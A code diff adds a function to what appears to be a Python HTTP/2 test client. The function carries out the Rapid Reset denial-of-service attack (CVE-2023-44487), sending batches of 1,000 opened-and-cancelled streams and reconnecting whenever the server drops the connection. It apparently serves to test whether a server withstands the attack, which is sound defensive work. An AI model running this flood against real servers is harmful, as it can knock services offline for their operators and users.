@@ -7,6 +7,7 @@ decoded, only which stream ended how."""
 import socket
 import struct
 import threading
+import time
 
 DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
 END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
@@ -131,3 +132,31 @@ class Connection:
             self.sock.close()
         except OSError:
             pass
+
+
+def rapid_reset(port, seconds, path, body, source="127.0.0.1"):
+    """HTTP/2 rapid reset (CVE-2023-44487): HEADERS + DATA + RST_STREAM
+    (CANCEL) of calls to `path`, 1,000 streams a write, for `seconds`;
+    reconnects whenever the server closes the connection. Returns (streams
+    sent, connections the server closed)."""
+    deadline = time.monotonic() + seconds
+    sent = 0
+    closed = 0
+    connection = Connection(port, source=source)
+    stream = 1
+    while time.monotonic() < deadline:
+        batch = b"".join(call_frames(stream + 2 * i, path, body, reset=True) for i in range(1000))
+        if connection.closed.is_set() or not connection.send(batch):
+            closed += 1
+            connection.close()
+            connection = Connection(port, source=source)
+            stream = 1
+            continue
+        sent += 1000
+        stream += 2000
+        if stream > 2**31 - 4000:
+            connection.close()
+            connection = Connection(port, source=source)
+            stream = 1
+    connection.close()
+    return sent, closed
